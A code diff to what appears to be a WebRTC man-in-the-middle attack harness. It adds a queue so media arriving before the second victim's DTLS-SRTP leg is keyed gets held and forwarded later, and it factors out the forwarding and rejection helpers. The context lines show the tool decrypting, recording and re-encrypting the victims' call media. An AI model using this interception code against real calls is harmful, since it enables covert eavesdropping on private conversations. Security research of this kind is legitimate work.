@@ -7,7 +7,7 @@
 #include "attacks/media_recorder.hpp"
 #include "attacks/sctp.hpp"
 #include "attacks/sdp_rewrite.hpp"
-#include "attacks/srtp_session.hpp"
+#include "net/srtp_session.hpp"
 #include "attacks/vp8_recorder.hpp"
 #include "net/dtls_endpoint.hpp"
 #include "net/ice_agent.hpp"
@@ -37,6 +37,10 @@ struct Leg {
   // the attacker unprotects with `srtp_in` and protects what goes to this
   // victim with `srtp_out`. Set when the leg negotiated use_srtp.
   std::optional<SrtpContext> srtp_in, srtp_out;
+  // Media for this victim (unprotected, with its RTCP flag) that arrived from
+  // the other before this leg was keyed: a real attacker holds it rather than
+  // let the call lose its first packets.
+  std::vector<std::pair<std::vector<std::uint8_t>, bool>> pending_media;
   // a=rtpmap of the SDP this victim sent: payload type -> {kind, codec}.
   std::map<int, std::pair<std::string, std::string>> payload_types;
 };
@@ -267,6 +271,7 @@ struct MitmBridge::RoomBridge {
                   report().legs_connected.push_back(l.victim);
                   report().srtp_profiles[l.victim] = profile ? std::string(to_string(*profile)) : "";
                   if (profile) key_media(i);
+                  send_pending_media(i);
                   event("attack.leg-connected", "DTLS with " + l.victim + " established as " +
                                                     std::string(to_string(l.dtls->role())) + ", DTLS-SRTP " +
                                                     (profile ? std::string(to_string(*profile)) : "not negotiated"));
@@ -306,6 +311,28 @@ struct MitmBridge::RoomBridge {
     l.srtp_out.emplace(std::move(*out));
   }
 
+  // What waited for leg `i` to be keyed goes out now (or, without SRTP on it, is refused).
+  void send_pending_media(int i) {
+    Leg& to = legs[i];
+    auto pending = std::move(to.pending_media);
+    to.pending_media.clear();
+    for (auto& [p, rtcp] : pending) forward_media(legs[1 - i], to, std::move(p), rtcp);
+  }
+
+  void reject_media(const Leg& from, const std::string& why) {
+    AttackerSessionReport& rep = report();
+    if (worth_logging(++rep.media_rejected))
+      event("attack.media-rejected",
+            "packet from " + from.victim + ": " + why + " (" + std::to_string(rep.media_rejected) + " so far)");
+  }
+
+  // An unprotected packet from `from`'s victim, protected for `to`'s and sent.
+  void forward_media(const Leg& from, Leg& to, std::vector<std::uint8_t> p, bool rtcp) {
+    if (!to.srtp_out || !to.ready) return reject_media(from, "the other leg has no SRTP");
+    if (!to.srtp_out->protect(p, rtcp)) return reject_media(from, "protect failed");
+    to.ice->send(p);
+  }
+
   // One RTP or RTCP packet from a victim: unprotected with its leg's keys,
   // recorded, protected with the other leg's keys and sent on. Media is
   // forwarded unchanged; whatever fails is counted and logged, then dropped.
@@ -313,11 +340,7 @@ struct MitmBridge::RoomBridge {
     Leg& l = legs[from];
     Leg& to = legs[1 - from];
     AttackerSessionReport& rep = report();
-    auto reject = [&](const std::string& why) {
-      if (worth_logging(++rep.media_rejected))
-        event("attack.media-rejected",
-              "packet from " + l.victim + ": " + why + " (" + std::to_string(rep.media_rejected) + " so far)");
-    };
+    auto reject = [&](const std::string& why) { reject_media(l, why); };
     if (!l.srtp_in) return reject("RTP/RTCP before DTLS-SRTP keys (or without use_srtp)");
     std::vector<std::uint8_t> p(datagram.begin(), datagram.end());
     const bool rtcp = is_rtcp(p);
@@ -347,9 +370,15 @@ struct MitmBridge::RoomBridge {
       stream.bytes += h->payload_size;
       record(l, to, *h, std::span(p).subspan(h->header_size, h->payload_size), stream);
     }
-    if (!to.srtp_out || !to.ready) return reject("the other leg has no SRTP yet");
-    if (!to.srtp_out->protect(p, rtcp)) return reject("protect failed");
-    to.ice->send(p);
+    // The other leg still in its handshake: held (2.5 s of 20 ms audio at most) until it is keyed.
+    const bool handshaking = !to.dtls || to.dtls->state() == DtlsEndpoint::State::Idle ||
+                             to.dtls->state() == DtlsEndpoint::State::Handshaking;
+    if ((!to.srtp_out || !to.ready) && handshaking) {
+      if (to.pending_media.size() >= 2 * kMaxQueued) return reject("the other leg has no SRTP yet and holds enough");
+      to.pending_media.emplace_back(std::move(p), rtcp);
+      return;
+    }
+    forward_media(l, to, std::move(p), rtcp);
   }
 
   // The codec an SDP names for a payload type: the sender's, or the other's if it did not.
